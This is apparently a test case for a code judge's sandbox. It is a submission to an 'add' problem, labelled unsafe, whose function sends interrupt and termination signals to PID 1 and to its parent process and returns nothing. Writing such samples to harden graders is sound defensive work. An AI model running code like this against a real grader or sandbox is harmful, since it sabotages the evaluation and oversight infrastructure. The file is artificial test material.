# problem: add
# verdict: wrong_answer | runtime_error | crashed | blocked | exited
# why: SIGINT to process 1: of all signals the one that an interpreter has a handler for.
# unsafe: true
import os
import signal
import time


def add(a, b):
    for pid in {1, os.getppid()}:
        if pid not in {0, os.getpid()}:
            for number in (signal.SIGINT, signal.SIGALRM, signal.SIGCHLD, signal.SIGTERM, signal.SIGPIPE):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    time.sleep(0.05)
    return None
